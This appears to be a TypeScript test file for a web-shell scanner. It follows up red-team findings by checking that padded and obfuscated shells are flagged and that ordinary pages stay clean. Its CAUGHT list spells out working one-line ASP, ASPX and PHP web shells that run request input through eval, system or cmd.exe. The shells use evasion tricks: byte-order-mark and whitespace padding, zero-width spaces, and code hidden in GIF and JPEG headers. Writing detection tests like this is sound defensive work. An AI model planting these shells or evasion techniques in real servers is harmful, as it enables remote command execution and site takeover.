import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 30: what session 29's third red team left open (bench/redteam/README-s29w.md), each shell written
// here: padding the languages read as white space or as nothing and the rules' \s does not (a byte-order
// mark, VBScript's line continuations), padding in the code only PHP 7 runs, and padding past the bounds of
// the analysers' own patterns.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const pad = (p: string, n = 5000) => p.repeat(Math.ceil(n / p.length));
// (UTF-8 bytes written as latin1 characters, as the scanner reads them)
const BOM = '\u00ef\u00bb\u00bf';
const ZWSP = '\u00e2\u0080\u008b';

// [what, path, the file]
const CAUGHT: [string, string, string][] = [
  ['S29W-10: a JScript eval padded with byte-order marks', '/www/e.aspx', `<%@ Page Language="Jscript" %><% eval(${pad(BOM)}Request.Item["z"], "unsafe"); %>`],
  ['S29W-10: a JScript eval padded with 5,000 byte-order marks', '/www/e2.aspx', `<%@ Page Language="Jscript" %><% eval(${BOM.repeat(5000)}Request.Item["z"], "unsafe"); %>`],
  ['a C# name split by zero-width spaces', '/www/z.aspx', `<%@ Page Language="C#" %><% var p = new System.Diagnostics.Pro${ZWSP}cess(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>`],
  ['S29W-12: Execute( spread over VBScript continuation lines', '/www/v.asp', `<% Execute(${pad(' '.repeat(60) + '_\r\n')}Request("c")) %>`],
  ['S29W-12: eval and its argument on continuation lines', '/www/v2.asp', `<%\r\neval${pad(' '.repeat(60) + '_\r\n')}(request("c"))\r\n%>`],
  ['S29W-13: a call padded past 4 KB in a GIF, in code only PHP 7 runs', '/www/up/a.gif', `GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000<?=\u0001system(${pad(' ')}$_GET[c])?>`],
  ['S29W-13: the same with tabs in a JPEG', '/www/up/a.jpg', `\u00ff\u00d8\u00ff\u00e0<?=\u0001eval(${pad('\t')}$_POST[c])?>\u00ff\u00d9`],
  ['S29W-13: a PHP file with a control byte, its sink padded', '/www/a.php', `<?php \u0001 $a = $_GET[c]; system(${pad(' ')}$a);`],
  ['request input held in a variable, the sink padded past the analysers\' bounds', '/www/b.php', `<?php $a = $_GET['c']; system(${pad(' ')}$a);`],
  ['S29W-14: the same in a .txt that an include runs', '/www/inc/c.txt', `<?php $a = $_GET['c']; system(${pad(' ')}$a);`],
  ['a padded eval of a decoded POST field', '/www/d.php', `<?php @eval(base64_decode($_POST[${pad(' ', 20000)}'x']));`],
];

// [what, path, the file]: the layers must not make these anything
const BENIGN: [string, string, string][] = [
  ['a VBScript page whose long statements are continued', '/www/report.asp', `<%\r\nDim sql\r\nsql = "SELECT name, total " & _\r\n      "FROM orders " & _\r\n      "WHERE day = ?"\r\nSet cmd = Server.CreateObject("ADODB.Command")\r\ncmd.CommandText = sql\r\nResponse.Write "ok"\r\n%>`],
  ['a C# page saved with a byte-order mark, padded with blank lines', '/www/default.aspx', `${BOM}<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {${pad('\r\n')}  Label1.Text = Request.QueryString["name"] == null ? "" : Server.HtmlEncode(Request.QueryString["name"]);\r\n}\r\n</script>`],
  ['a PHP template with a long indented blank block', '/www/tpl.php', `<?php $title = htmlspecialchars($_GET['t'] ?? '');${pad('    \n')}echo "<h1>$title</h1>";`],
  ['a text file of spaced-out PHP examples', '/www/docs/howto.txt', `Run this:${pad(' ')}<?php echo date('Y-m-d'); ?> and then the page shows the date.`],
];

describe('scan: session 30, what session 29\'s red team left open', () => {
  for (const [name, path, src] of CAUGHT) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`clean: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(CAUGHT.length, 11);
    assert.equal(BENIGN.length, 4);
  });
});
